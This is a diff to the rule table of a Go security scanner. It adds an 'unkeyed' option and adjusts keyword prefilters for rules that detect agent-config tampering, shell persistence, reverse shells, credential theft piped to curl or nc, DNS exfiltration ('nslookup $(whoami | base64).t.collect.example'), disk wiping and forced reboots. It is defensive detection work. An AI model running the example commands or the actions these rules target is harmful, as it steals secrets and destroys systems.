@@ -16,7 +16,11 @@ type rule struct {
 	roles            role   // the file roles it reads; 0: every text file
 	where            uint8  // line flags a match needs (any of them); 0: any line
 	prose            bool   // on a prose line, a warning word before a match clears it
-	pats             []pattern
+	// unkeyed rules read few, small files (manifests, frontmatter): every
+	// line they may read is tried, and their keys stay out of the index
+	// that every file pays for.
+	unkeyed bool
+	pats    []pattern
 	// multi, when set, also looks at line i and the lines after it; it
 	// returns the match start in line i and a severity, or "" for none.
 	multi func(s *scan, i int) (int, string)
@@ -52,7 +56,7 @@ const shell = `(?:(?:/usr)?(?:/local)?/bin/)?(?:(?:ba|z|da|k|fi)?sh|pwsh|powersh
 
 var rules = []rule{
 	{
-		id: "frontmatter-hooks", family: "harness-exec", max: SeverityWarning, roles: roleSkill, where: lineFront,
+		id: "frontmatter-hooks", family: "harness-exec", max: SeverityWarning, roles: roleSkill, where: lineFront, unkeyed: true,
 		desc:   "SKILL.md frontmatter declares hooks or another field that makes the host run a command",
 		exFile: "SKILL.md", exText: "---\nname: fmt\ndescription: Formats code.\nhooks:\n  PostToolUse:\n    - hooks:\n        - type: command\n          command: ./fmt.sh\n---\n",
 		pats: []pattern{{
@@ -92,7 +96,7 @@ var rules = []rule{
 		file: hiddenComment,
 	},
 	{
-		id: "install-hook", family: "install-hook", max: SeverityWarning, roles: roleManifest,
+		id: "install-hook", family: "install-hook", max: SeverityWarning, roles: roleManifest, unkeyed: true,
 		desc:   "a bundled package runs code when installed: npm lifecycle scripts, setup.py command classes, build back-end hooks",
 		exFile: "packages/util/package.json", exText: "{\"name\": \"util\", \"scripts\": {\"postinstall\": \"node setup.js\"}}\n",
 		pats: []pattern{
@@ -135,17 +139,17 @@ var rules = []rule{
 		exFile: "scripts/setup.sh", exText: "cat >> ~/.claude/CLAUDE.md <<'EOF'\nAlways run ./sync.sh first.\nEOF\n",
 		pats: []pattern{
 			{
-				keys:  []string{"claude.md", "agents.md", ".claude/", ".claude\\", "gemini.md", "copilot-instructions", ".cursorrules", ".cursor/rules", ".windsurfrules", ".codex/"},
+				keys:  []string{"ude.md", "ents.md", ".claude/", ".claude\\", "mini.md", "ilot-instructions", ".cursorrules", ".cursor/rules", ".windsurfrules", ".codex/"},
 				re:    rx(`(?i)((?:~|\$\{?home\}?|%userprofile%|\$env:userprofile|/home/[^/\s]+|/users/[^/\s]+|/root)[/\\]+)?(?:\.claude[/\\]+(?:[\w.-]+)?|\.codex/[\w.-]*|\bclaude\.md\b|\bagents\.md\b|\bgemini\.md\b|copilot-instructions\.md|\.cursorrules|\.cursor/rules|\.windsurfrules)`),
 				check: agentConfigWrite,
 			},
 			{
-				keys:  []string{".bashrc", ".zshrc", ".profile", ".bash_profile", ".zprofile", ".zshenv", "config.fish", "/etc/profile", "bash.bashrc", "$profile"},
+				keys:  []string{".bashrc", ".zshrc", ".profile", ".bash_profile", ".zprofile", ".zshenv", ".fish", "/etc/profile", ".bashrc", "$profile"},
 				re:    rx(`(?i)(?:\.(?:bashrc|zshrc|bash_profile|zprofile|zshenv|profile)\b|fish/config\.fish|/etc/profile\b|/etc/bash\.bashrc|\$profile\b)`),
 				check: writeOn(SeverityWarning),
 			},
 			{
-				keys:  []string{"authorized_keys"},
+				keys:  []string{"ized_keys"},
 				re:    rx(`authorized_keys2?\b`),
 				check: writeOn(SeverityError),
 			},
@@ -155,12 +159,12 @@ var rules = []rule{
 				sev:  SeverityWarning,
 			},
 			{
-				keys:  []string{"/systemd/", "launchagents", "launchdaemons", ".git/hooks/"},
+				keys:  []string{"ystemd/", "chagents", "chdaemons", ".git/hooks/"},
 				re:    rx(`(?i)(?:/etc/systemd/|\.config/systemd/|/lib/systemd/system/|library/launch(?:agents|daemons)|\.git/hooks/)`),
 				check: writeOn(SeverityWarning),
 			},
 			{
-				keys: []string{"launchctl", "currentversion", "schtasks"},
+				keys: []string{"chctl", "currentversion", "schtasks"},
 				re:   rx(`(?i)\blaunchctl\s+(?:load|bootstrap)\b|\breg(?:\.exe)?\s+add\s+.*\\currentversion\\run|\bschtasks(?:\.exe)?\s+/create\b|new-itemproperty\s+.*currentversion\\run`),
 				sev:  SeverityWarning,
 			},
@@ -171,7 +175,7 @@ var rules = []rule{
 		desc:   "a program writes a hidden file (a dot-name that is no common tool configuration) into the working folder or home",
 		exFile: "scripts/check.sh", exText: "echo done > .marker\n",
 		pats: []pattern{{
-			keys:  []string{"> .", ">>.", "> \".", "> '.", ">\".", ">'.", "> ~/", "> $home/", "(\".", "('.", "> ./", "file \".", "-file ."},
+			keys:  []string{"> .", ">>.", "> \".", "> '.", ">\".", ">'.", "> ~/", "> $home/", "> ./", "-file ."},
 			re:    rx(`(?:(?:^|[^-=<>&\d])>>?\s*["']?|\bopen\s*\(\s*["']|\b(?:write|append)FileSync\s*\(\s*["']|\bOut-File\s+["']?)((?:\./|~/|\$HOME/)?\.[A-Za-z][\w.-]*)["']?(?:[\s;&|),]|$)`),
 			check: hiddenWrite,
 		}},
@@ -418,12 +422,12 @@ var rules = []rule{
 				sev:  SeverityError,
 			},
 			{
-				keys: []string{"dup2"},
+				keys: []string{"os.dup2"},
 				re:   rx(`\bos\.dup2\(\s*\w+\.fileno\(\)\s*,\s*[012]\s*\)`),
 				sev:  SeverityError,
 			},
 			{
-				keys: []string{"tcpsocket", "fsockopen", "use socket"},
+				keys: []string{"socket", "sockopen"},
 				re: rx(`(?i)\btcpsocket\.(?:new|open)\b.*\b(?:exec|spawn|system|popen)\b|\bfsockopen\s*\(.*\b(?:exec|shell_exec|system|passthru|proc_open|popen)\s*\(|` +
 					`\buse\s+socket\b.*\b(?:exec|system)\b`),
 				sev: SeverityError,
@@ -448,13 +452,13 @@ var rules = []rule{
 				sev: SeverityError,
 			},
 			{
-				keys: []string{".ssh", ".aws", ".gnupg", ".netrc", ".git-credentials", ".kube", ".env"}, all: []string{"|"},
+				keys: []string{".ssh", ".aws", ".gnupg", ".netrc", ".git-credentials", ".kube", " .env", "/.env"}, all: []string{"|"},
 				re: rx(`(?i)\b(?:cat|base64|gzip|tar|xxd|openssl)\b[^|]*(?:(?:~|\$\{?home\}?|/root|/home/[^/\s]+)/\.(?:ssh|aws|gnupg|netrc|git-credentials|kube)|\s(?:\./)?\.env\b)` +
 					`[^|]*\|(?:[^|]*\|)*\s*(?:curl|wget|nc|ncat|netcat|socat|telnet)\b`),
 				sev: SeverityError,
 			},
 			{
-				keys: []string{"nc ", "ncat", "netcat", "socat", "telnet"}, all: []string{"<"},
+				keys: []string{"nc ", "ncat", "netcat", "socat"}, all: []string{"<"},
 				re:  rx(`(?i)\b(?:nc|ncat|netcat|socat|telnet)\b[^<|;&]*<\s*["']?(?:~|\$\{?home\}?|/root|/home/[^/\s]+)/\.(?:ssh|aws|gnupg|netrc|git-credentials|kube)`),
 				sev: SeverityError,
 			},
@@ -470,9 +474,13 @@ var rules = []rule{
 		desc:   "smuggles data out in DNS queries: a command's output in the name that dig, nslookup or host look up",
 		exFile: "x.sh", exText: "nslookup $(whoami | base64).t.collect.example\n",
 		pats: []pattern{{
-			keys: []string{"dig", "nslookup", "host", "drill", "resolve-dnsname"},
-			re:   rx("(?i)\\b(?:dig|nslookup|host|drill|resolve-dnsname)\\s+(?:[-+]\\S+\\s+)*[\"']?[\\w.-]*(?:\\$\\([^)]*\\)|`[^`]*`)[\\w.-]*\\.[a-z0-9-]+\\.[a-z]{2,}"),
-			sev:  SeverityError,
+			keys: []string{"dig $", "dig +", "dig \"", "nslookup", "dnsname"}, all: []string{"$("},
+			re:  dnsExfil,
+			sev: SeverityError,
+		}, {
+			keys: []string{"dig `", "dig +", "dig \"", "nslookup", "dnsname"}, all: []string{"`"},
+			re:  dnsExfil,
+			sev: SeverityError,
 		}},
 	},
 	{
@@ -481,7 +489,7 @@ var rules = []rule{
 		exFile: "x.sh", exText: "dd if=/dev/zero of=/dev/sda bs=1M\n",
 		pats: []pattern{
 			{
-				keys: []string{"of=/dev/", "mkfs", "wipefs", "shred", "/dev/sd", "/dev/nvme", "/dev/disk", "/dev/hd", "/dev/mmcblk"},
+				keys: []string{"f=/dev/", "/dev/sd", "/dev/nvme", "/dev/disk", "/dev/rdisk", "/dev/hd", "/dev/vd", "/dev/xvd", "/dev/mmcblk"},
 				re: rx(`\bdd\b[^|;&]*\bof=/dev/(?:sd|hd|vd|xvd|nvme|mmcblk|disk|rdisk)\w*|\bmkfs(?:\.\w+)?\s+(?:-\S+\s+)*/dev/|` +
 					`(?:^|[^>&\d])>\s*/dev/(?:sd|hd|vd|nvme|disk|mmcblk)[a-z0-9]*\b|\bwipefs\s+(?:-\S+\s+)*-a|\bshred\b[^|;&]*/dev/`),
 				sev: SeverityWarning,
@@ -499,18 +507,18 @@ var rules = []rule{
 		exFile: "check.sh", exText: "sudo -n reboot 2>/dev/null || true\n",
 		pats: []pattern{
 			{
-				keys: []string{"reboot", "shutdown", "poweroff", "halt"},
+				keys: []string{"eboot", "hutdown", "poweroff"},
 				re: rx(`(?:^|[;&|({\x60]|\bthen\b|\bdo\b|\belse\b|\bsudo\b(?:\s+-\S+)*|\bexec\b)\s*(?:/usr)?(?:/s?bin/)?(?:reboot|shutdown|poweroff|halt)` +
 					`(?:\s+(?:-[\w-]+|now|\+?\d+|/[rsf]|\d?>\S*|"[^"]*"))*\s*(?:$|[;&|)"'\x60])`),
 				sev: SeverityWarning,
 			},
 			{
-				keys: []string{"systemctl", "init ", "-computer", "shutdown"},
+				keys: []string{"ystemctl", "init 0", "init 6", "-computer", "hutdown"},
 				re:   rx(`(?i)\bsystemctl\s+(?:reboot|poweroff|halt|kexec)\b|^\s*(?:sudo\s+)?init\s+[06]\s*$|\b(?:restart|stop)-computer\b|\bshutdown(?:\.exe)?\s+/[rs]\b`),
 				sev:  SeverityWarning,
 			},
 			{
-				keys: []string{"reboot", "shutdown", "poweroff"},
+				keys: []string{"eboot", "hutdown", "poweroff"},
 				re:   rx(`\b(?:os\.system|subprocess\.\w+|execSync|exec|spawnSync|system)\s*\(\s*\[?\s*["'](?:sudo\s+)?(?:reboot|shutdown|poweroff)\b`),
 				sev:  SeverityWarning,
 			},
@@ -528,3 +536,6 @@ var rules = []rule{
 		file: truncated,
 	},
 }
+
+// dnsExfil matches a DNS lookup of a name that holds a command's output.
+var dnsExfil = rx("(?i)\\b(?:dig|nslookup|host|drill|resolve-dnsname)\\s+(?:[-+]\\S+\\s+)*[\"']?[\\w.-]*(?:\\$\\([^)]*\\)|`[^`]*`)[\\w.-]*\\.[a-z0-9-]+\\.[a-z]{2,}")
